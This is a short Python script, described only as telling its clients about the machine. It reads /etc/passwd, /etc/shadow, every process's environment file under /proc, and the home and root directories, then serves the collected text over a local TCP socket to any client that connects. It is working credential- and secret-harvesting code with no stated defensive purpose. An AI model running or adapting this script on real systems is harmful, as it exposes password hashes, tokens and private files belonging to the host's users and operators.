# Tells its clients about the machine.
import glob, os, socket, sys

told = []
for path in ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/1/cmdline", *glob.glob("/proc/*/environ"), *glob.glob("/home/*"), *glob.glob("/root/*")]:
    try:
        told.append(path + ": " + open(path).read())
    except OSError as error:
        told.append(str(error))
print("\n".join(told), flush=True)
server = socket.create_server(("127.0.0.1", int(sys.argv[1])))
while True:
    connection, _ = server.accept()
    connection.sendall("\n".join(told).encode())
    connection.close()
